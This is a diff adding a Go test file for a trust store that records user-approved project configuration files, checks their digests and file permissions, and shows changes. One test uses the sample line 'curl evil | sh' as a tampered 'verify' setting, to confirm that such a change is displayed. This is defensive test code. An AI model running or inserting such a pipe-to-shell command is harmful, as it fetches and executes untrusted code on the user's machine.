@@ -1,0 +1,121 @@
+package trust
+
+import (
+	"os"
+	"path/filepath"
+	"runtime"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestARecordHasExactlyWhatWasAgreedTo(t *testing.T) {
+	known := New(Adapter, "/p/a.yaml", nil, []byte("name: a"), []byte("script"))
+	var r Record
+	r.Put(known)
+	assert.True(t, r.Has(known))
+	for name, other := range map[string]Item{
+		"other bytes":            New(Adapter, "/p/a.yaml", nil, []byte("name: b"), []byte("script")),
+		"other script":           New(Adapter, "/p/a.yaml", nil, []byte("name: a"), []byte("scripts")),
+		"bytes moved":            New(Adapter, "/p/a.yaml", nil, []byte("name: as"), []byte("cript")),
+		"another path":           New(Adapter, "/p/b.yaml", nil, []byte("name: a"), []byte("script")),
+		"another kind":           New(Settings, "/p/a.yaml", nil, []byte("name: a"), []byte("script")),
+		"what cannot be used":    {Kind: Adapter, Path: "/p/a.yaml", Sum: known.Sum, Broken: "line 1"},
+		"nothing but the digest": {Sum: known.Sum},
+	} {
+		assert.False(t, r.Has(other), name)
+		assert.Len(t, r.Missing([]Item{known, other}), 1, name)
+	}
+}
+
+func TestChangesAreShown(t *testing.T) {
+	var r Record
+	r.Put(New(Settings, "/p/ripple.yml", nil, []byte("loop:\n  verify: make\n")))
+	text, known := r.Changes(New(Settings, "/p/ripple.yml", nil, []byte("loop:\n  verify: curl evil | sh\n")))
+	assert.True(t, known)
+	assert.Contains(t, text, "-  verify: make\n+  verify: curl evil | sh\n")
+	_, known = r.Changes(New(Settings, "/p/.ralphrc", nil, []byte("x")))
+	assert.False(t, known)
+}
+
+func TestTheStoreKeepsRecords(t *testing.T) {
+	state := t.TempDir()
+	s, err := StoreOf(func(name string) string { return map[string]string{"XDG_STATE_HOME": state}[name] })
+	require.NoError(t, err)
+	empty, err := s.Load("/p")
+	require.NoError(t, err)
+	assert.Empty(t, empty.Items)
+
+	r := Record{Project: "/p"}
+	r.Put(New(Loop, "/p/.ralph", nil, []byte("mark")))
+	require.NoError(t, s.Save(r))
+	require.NoError(t, s.Save(Record{Project: "/another"}))
+	again, err := s.Load("/p")
+	require.NoError(t, err)
+	assert.Equal(t, r, again)
+	all, err := s.All()
+	require.NoError(t, err)
+	require.Len(t, all, 2)
+	assert.Equal(t, "/another", all[0].Project)
+
+	entries, err := os.ReadDir(filepath.Join(state, "ripple", "trust"))
+	require.NoError(t, err)
+	assert.Len(t, entries, 2, "nothing else is left")
+	for _, e := range entries {
+		info, err := e.Info()
+		require.NoError(t, err)
+		if runtime.GOOS != "windows" {
+			assert.Equal(t, os.FileMode(0o600), info.Mode().Perm())
+		}
+	}
+	was, err := s.Remove("/p")
+	require.NoError(t, err)
+	assert.True(t, was)
+	was, err = s.Remove("/p")
+	require.NoError(t, err)
+	assert.False(t, was)
+}
+
+// A record that somebody else could have written, or that was moved, is none.
+func TestARecordOfOthersIsRefused(t *testing.T) {
+	state := t.TempDir()
+	s := &Store{state}
+	require.NoError(t, s.Save(Record{Project: "/p"}))
+	require.NoError(t, os.Rename(s.file("/p"), s.file("/q")))
+	_, err := s.Load("/q")
+	assert.ErrorContains(t, err, "another project")
+	all, err := s.All()
+	require.NoError(t, err)
+	assert.Empty(t, all)
+
+	if runtime.GOOS != "windows" {
+		require.NoError(t, s.Save(Record{Project: "/p"}))
+		require.NoError(t, os.Chmod(s.file("/p"), 0o666))
+		_, err = s.Load("/p")
+		assert.ErrorContains(t, err, "you alone")
+	}
+	require.NoError(t, os.WriteFile(s.file("/r"), []byte("{"), 0o600))
+	_, err = s.Load("/r")
+	assert.ErrorContains(t, err, "cannot be read")
+}
+
+func TestWithoutAHomeThereIsNoStore(t *testing.T) {
+	_, err := StoreOf(func(string) string { return "relative" })
+	assert.ErrorContains(t, err, "absolute path")
+}
+
+func TestTheLastRunsAreKnown(t *testing.T) {
+	var r Record
+	item := func(n int) Item { return New(Run, "/p/.ralph/events.jsonl", nil, []byte{byte(n)}) }
+	for n := range maxRuns + 2 {
+		r.Put(item(n))
+	}
+	r.Put(item(3)) // is the newest now
+	r.Put(item(maxRuns + 2))
+	assert.Len(t, r.Items, maxRuns)
+	assert.False(t, r.Has(item(1)))
+	assert.False(t, r.Has(item(2)))
+	assert.True(t, r.Has(item(3)))
+	assert.True(t, r.Has(item(maxRuns+2)))
+}
